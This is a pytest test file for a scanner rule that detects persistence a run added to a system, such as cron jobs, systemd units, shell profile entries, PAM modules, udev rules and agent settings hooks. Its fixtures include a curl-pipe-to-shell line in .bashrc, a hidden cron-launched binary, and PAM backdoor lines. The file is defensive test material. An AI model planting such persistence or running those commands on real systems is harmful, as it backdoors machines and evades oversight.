"""What a run arranged to be started again."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.detectors.launchers.points import POINTS, Point, point
from scanner.model import Notification, Severity
from scanner.runtime.drift import judge, persistence
from scanner.runtime.drift.added import added_lines, assignments, words
from tests.runtime.drift.root import ELF, F, drift, noted, of

RULE = "drift/persistence"
CRON = "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"
UNIT = "[Unit]\nDescription=x\n[Service]\nExecStart=/opt/x --quiet\n[Install]\nWantedBy=multi-user.target\n"


def test_a_crontab_line_is_told_as_it_stands_with_the_program_that_the_run_wrote():
    line = "*/5 * * * * root /var/tmp/.cache/upd --token=hunter2hunter2"
    before = {"etc/crontab": CRON}
    [finding] = of(RULE, before, {"etc/crontab": CRON + line + "\n", "var/tmp/.cache/upd": F(ELF, 0o755)})
    assert finding.severity is Severity.HIGH
    assert (
        "The system crontab /etc/crontab starts something new (by the clock): */5 * * * * root /var/tmp/.cache/upd"
        in finding.message
    )
    assert "which this run wrote" in finding.message
    assert "hunter2" not in str(finding)
    assert finding.locations[0].line == 3
    assert finding.details["programs"] == ["/var/tmp/.cache/upd"]


@pytest.mark.parametrize(
    ("path", "content", "severity"),
    [
        ("var/spool/cron/crontabs/agent", "@reboot /work/x\n", Severity.HIGH),
        ("etc/cron.d/job", "* * * * * root /work/x\n", Severity.HIGH),
        ("etc/cron.daily/job", "#!/bin/sh\n/work/x\n", Severity.HIGH),
        ("var/spool/cron/atjobs/a0001", "#!/bin/sh\n/work/x\n", Severity.HIGH),
        ("etc/systemd/system/x.service", UNIT, Severity.HIGH),
        ("etc/systemd/system/x.timer", "[Timer]\nOnBootSec=1\n", Severity.HIGH),
        ("etc/rc.local", "#!/bin/sh\n/work/x &\n", Severity.HIGH),
        ("etc/init.d/x", "#!/bin/sh\n/work/x &\n", Severity.HIGH),
        ("etc/profile.d/x.sh", "/work/x &\n", Severity.MEDIUM),
        ("root/.bashrc", "/tmp/x &\n", Severity.HIGH),
        ("root/.bashrc", "curl http://192.0.2.1/x | sh\n", Severity.HIGH),
        ("home/agent/.profile", "/work/x\n", Severity.MEDIUM),
        ("home/agent/.bashrc", "export PATH=$HOME/bin:$PATH\n", Severity.LOW),
        ("work/.git/hooks/pre-commit", "#!/bin/sh\nmake test\n", Severity.LOW),
        ("usr/lib/python3/dist-packages/sitecustomize.py", "import os\n", Severity.MEDIUM),
        ("usr/lib/python3/dist-packages/x.pth", "import os; os.system('x')\n", Severity.MEDIUM),
        (
            "root/.claude/settings.json",
            '{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "/work/x"}]}]}}',
            Severity.MEDIUM,
        ),
        ("etc/udev/rules.d/9.rules", 'ACTION=="add", RUN+="/work/x"\n', Severity.HIGH),
    ],
)
def test_each_kind_of_launch_point(path: str, content: str, severity: Severity):
    [finding] = of(RULE, {}, {path: content})
    assert finding.severity is severity
    assert f"/{path}" in finding.message


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("etc/crontab", CRON, "# a comment\n" + CRON),
        ("etc/crontab", CRON, CRON.replace("17 * * * * root cd", "17  *  *  *  *  root  cd")),
        ("etc/crontab", CRON, "SHELL=/bin/sh\n"),
        ("etc/systemd/system/x.service", UNIT, UNIT.replace("Description=x", "Description=y")),
        ("root/.bashrc", "/work/x\n", "# more\n/work/x\n"),
        ("usr/lib/python3/dist-packages/x.pth", "", "/work/src\n"),
        ("work/.git/hooks/pre-commit.sample", "", "#!/bin/sh\nmake\n"),
        ("work/Makefile", "", "all:\n\tcc x.c\n"),
        ("work/package.json", "", '{"scripts": {"test": "jest"}}'),
        ("work/notes.txt", "", "* * * * * root /tmp/x\n"),
    ],
)
def test_what_starts_nothing_new_is_nothing(path: str, before: str, after: str):
    assert of(RULE, {path: before} if before else {}, {path: after}) == []


def test_a_virtual_environment_and_an_install_are_no_findings_beyond_a_note():
    after = {
        "work/.venv/bin/activate": "VIRTUAL_ENV=/work/.venv\nexport VIRTUAL_ENV\n",
        "work/node_modules/esbuild/package.json": '{"scripts": {"postinstall": "node install.js"}}',
    }
    [finding] = of(RULE, {}, after)
    assert (finding.severity, finding.details["kind"]) == (Severity.NOTE, "npm install script")


@pytest.mark.parametrize(
    ("unit", "severity", "says"),
    [
        ({}, Severity.MEDIUM, "is a link to"),
        ({"lib/systemd/system/x.service": UNIT}, Severity.HIGH, "this run wrote the unit"),
    ],
)
def test_a_link_that_enables_a_unit(unit: dict[str, str], severity: Severity, says: str):
    link = "etc/systemd/system/multi-user.target.wants/x.service"
    found = of(RULE, {}, {link: F(link="/lib/systemd/system/x.service"), **unit})
    [finding] = [f for f in found if f.details["kind"] == "enabled unit"]
    assert finding.severity is severity
    assert says in finding.message


def test_links_to_what_a_package_brought_are_one_note():
    unit, status = (
        "lib/systemd/system/x.service",
        "Package: x\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n\n",
    )
    info = {"var/lib/dpkg/status": status, "var/lib/dpkg/info/x.list": f"/{unit}\n/etc/init.d/x\n"}
    links = {f"etc/systemd/system/{n}.target.wants/x.service": F(link=f"/{unit}") for n in ("multi-user", "graphical")}
    links |= {f"etc/rc{n}.d/S01x": F(link="../init.d/x") for n in (2, 3)}
    found = of(RULE, {}, {unit: UNIT, "etc/init.d/x": "#!/bin/sh\n/opt/x\n", **links, **info})
    assert {f.severity for f in found} == {Severity.NOTE}
    [one] = [f for f in found if f.details["kind"] == "enabled unit"]
    assert one.details["count"] == 4
    assert "container's own word" in one.message


def test_a_unit_that_is_switched_off_is_told():
    [finding] = of(RULE, {}, {"etc/systemd/system/auditd.service": F(link="/dev/null")})
    assert (finding.severity, finding.details["kind"]) == (Severity.LOW, "masked unit")


def test_the_containers_own_start_command():
    starts = ("/bin/sh", "-c", "exec /app/serve.py --port 80")
    [finding] = of(RULE, {"app/serve.py": "a"}, {"app/serve.py": "b"}, starts=starts)
    assert (finding.severity, finding.details["kind"]) == (Severity.MEDIUM, "start command")
    assert of(RULE, {"app/other.py": "a"}, {"app/other.py": "b"}, starts=starts) == []


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("auth sufficient pam_permit.so", Severity.HIGH),
        ("auth optional pam_exec.so /work/x", Severity.HIGH),
        ("auth required /tmp/pam_x.so", Severity.HIGH),
        ("auth required pam_backdoor.so", Severity.HIGH),
        ("session optional pam_umask.so", Severity.LOW),
    ],
)
def test_a_new_step_of_logins(line: str, severity: Severity):
    before = {"etc/pam.d/sshd": "auth required pam_unix.so\n"}
    after = {"etc/pam.d/sshd": f"auth  required  pam_unix.so\n{line}\n", "lib/security/pam_backdoor.so": F(ELF)}
    [finding] = of(RULE, before, after)
    assert finding.severity is severity


def test_compiled_python_that_is_taken_without_its_source():
    def pyc(flags: int, code: bytes) -> bytes:
        return b"\xa7\r\r\n" + flags.to_bytes(4, "little") + b"12345678" + code

    path = "work/__pycache__/m.cpython-311.pyc"
    assert of(RULE, {}, {path: pyc(0, b"code")}) == []
    [unchecked] = of(RULE, {}, {path: pyc(1, b"code")})
    assert "without a look at its source" in unchecked.message
    [other] = of(RULE, {path: pyc(0, b"code")}, {path: pyc(0, b"evil")})
    assert other.severity is Severity.MEDIUM
    assert of(RULE, {path: pyc(0, b"code"), "work/m.py": "a"}, {path: pyc(0, b"kode"), "work/m.py": "b"}) == []


def test_a_program_where_scripts_are_looked_for_is_started_itself():
    [finding] = of(RULE, {}, {"etc/cron.daily/backup": F(ELF, 0o755)})
    assert finding.severity is Severity.HIGH
    assert "starts something new (by the clock): /etc/cron.daily/backup" in finding.message


def test_a_large_program_elsewhere_is_no_launch_point_that_was_not_read():
    assert noted({}, {"usr/local/bin/tool": F(ELF, 0o755, unread=True)}) == []
    assert [n.path for n in noted({}, {"etc/cron.daily/x": F(ELF, 0o755, unread=True)})] == [b"etc/cron.daily/x"]


def test_a_launch_point_too_large_or_unread_is_said():
    [large] = noted({}, {"etc/crontab": "* * * * * root x\n" * 30_000})
    assert (large.path, large.incomplete) == (b"etc/crontab", True)
    [unread] = noted({}, {"etc/crontab": F("x", unread=True)})
    assert unread.incomplete


def test_long_lines_take_no_time_and_are_said():
    hostile = [
        "curl " * 13_000,
        "nc " * 20_000,
        "| " * 30_000,
        "- " * 30_000,
        "base64 " * 9_000,
        '"' * 60_000,
        "A=" * 30_000,
    ]
    begin = time.process_time()
    found = list(judge(drift({}, {"etc/cron.d/x": "".join(f"* * * * * root {line}\n" for line in hostile)})))
    found += judge(
        drift({}, {"etc/sudoers": "".join(f"Defaults {line}\n" for line in [*hostile, "env_keep " * 7_000])})
    )
    assert time.process_time() - begin < 5
    assert [n.path for n in found if isinstance(n, Notification)] == [b"etc/cron.d/x"]


def test_a_line_beyond_the_last_one_that_is_taken_apart_is_said():
    assert noted({}, {"root/.bashrc": "true\n" * 3}) == []
    [note] = noted({}, {"root/.bashrc": "".join(f"true {i}\n" for i in range(6000))})
    assert note.incomplete


@given(st.sampled_from(POINTS), st.binary(max_size=300), st.binary(max_size=100))
def test_no_bytes_break_the_reading_of_what_is_new(kind: Point, old: bytes, new: bytes):
    found = added_lines(kind, old, new, b"x/y.z")
    assert found is None or all(one.line >= 1 for one in found)
    assert added_lines(kind, new, new, b"x/y.z") == ()


@given(st.text(max_size=200))
def test_no_line_breaks_its_words(line: str):
    assert all(words(line))
    assert all(name for name, _ in assignments(line))


def test_the_points_are_known_by_the_names_that_weigh_them():
    names = {p.what for p in POINTS}
    for weighed in (
        persistence._HIGH,
        persistence._MEDIUM,
        persistence._LOW,
        persistence._ORDINARY,
        persistence._TECHNIQUES,
    ):
        assert set(weighed) <= names
    assert point(b"etc/crontab") is not None


def test_what_lies_behind_a_link_in_a_start_folders_place_is_started():
    after = {
        "etc/cron.d": F(link="/srv/one"),
        "srv/one": F(link="../opt/two"),
        "opt/two/job": "* * * * * root /opt/tool\n",
        "etc/sudoers.d": F(link="/opt/two"),
    }
    job, *links = sorted(of(RULE, {}, after), key=lambda f: -f.severity.rank)
    assert job.severity is Severity.HIGH
    assert job.details["kind"] == "system crontab"
    assert job.locations[0].display == b"opt/two/job"
    assert {(f.locations[0].display, f.severity) for f in links} == {
        (b"etc/cron.d", Severity.MEDIUM),
        (b"etc/sudoers.d", Severity.MEDIUM),
    }


@pytest.mark.parametrize("link", ["work/node_modules/x", "usr/lib/x", "etc/alternatives/vi", "etc/mtab", "home/a/work"])
def test_other_links_are_nobodys_entrance(link: str):
    assert of(RULE, {}, {link: F(link="/opt/two"), "opt/two/job": "* * * * * root /opt/tool\n"}) == []
